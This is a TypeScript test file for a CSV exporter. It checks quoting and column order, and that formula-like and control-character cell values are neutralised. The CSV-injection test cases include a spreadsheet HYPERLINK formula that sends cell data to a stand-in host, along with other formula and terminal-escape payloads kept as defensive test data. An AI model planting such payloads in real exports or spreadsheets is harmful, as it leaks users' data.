/** Lists as CSV: what a spreadsheet reads is what was listed, and nothing in it is a formula. */
import { describe, expect, it } from "vitest";
import * as z from "zod";
import { csvPageOf, renderCsv } from "../../worker/api/csv.ts";

const cells = (...row: unknown[]) => renderCsv({ columns: [], rows: [row] }, false);

describe("a cell", () => {
  it.each<[string, unknown, string]>([
    ["a text", "web-0", '"web-0"'],
    ["quotes, commas and semicolons", 'a "b", c; d', '"a ""b"", c; d"'],
    ["a number", -12.5, "-12.5"],
    ["a boolean", false, "false"],
    ["nothing", null, ""],
    ["a list", ["sh", "-c"], '"[""sh"",""-c""]"'],
    ["no text", "", '""'],
  ])("has %s", (_, value, expected) => {
    expect(cells(value)).toBe(`${expected}\r\n`);
  });

  // OWASP, CSV Injection.
  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example?"&A1)',
    " =1",
    "\u00A0=1",
    "\uFF1D1",
    "\uFF0Bcmd",
  ])("is no formula: %s", (text) => {
    expect(cells(text)).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
  });

  it.each(["a=1", "kube-system", "1-1", "'=1", "someone@example.com"])("is left alone: %s", (text) => {
    expect(cells(text)).toBe(`"${text}"\r\n`);
  });

  it("has no control characters, which a terminal would obey and a reader take for another line", () => {
    expect(cells("\u001B]0;x\u0007", "a\r\n=cmd", "\t=1", "\u202Etxt")).toBe(
      '"\uFFFD]0;x\uFFFD","a\uFFFD\uFFFD=cmd","\uFFFD=1","\uFFFDtxt"\r\n',
    );
    expect(cells(["\u001B[2J"])).toBe('"[""\\u001b[2J""]"\r\n');
  });
});

describe("a page", () => {
  const schema = z.strictObject({
    items: z.array(z.strictObject({ id: z.string(), at: z.string().nullable() })),
    next: z.string().nullable(),
  });

  it("has the columns of its schema, in that order, also where it is empty", () => {
    expect(csvPageOf(schema, { items: [], next: null })).toEqual({ columns: ["id", "at"], rows: [], next: null });
    const page = csvPageOf(schema, { items: [{ at: null, id: "a" }], next: "c" });
    expect(page).toEqual({ columns: ["id", "at"], rows: [["a", null]], next: "c" });
    expect(renderCsv(page, true)).toBe('"id","at"\r\n"a",\r\n');
    expect(renderCsv(page, false)).toBe('"a",\r\n');
  });

  it("may be a table", () => {
    const table = { columns: ["=user", "n"], rows: [["a", 1]], sql: "SELECT" };
    expect(renderCsv(csvPageOf(z.unknown(), table), true)).toBe('"\'=user","n"\r\n"a",1\r\n');
  });

  it("is nothing else", () => {
    expect(() => csvPageOf(z.strictObject({ a: z.string() }), { a: "b" })).toThrow();
    expect(() => csvPageOf(z.strictObject({ next: z.null() }), { items: [], next: null })).toThrow(TypeError);
  });
});
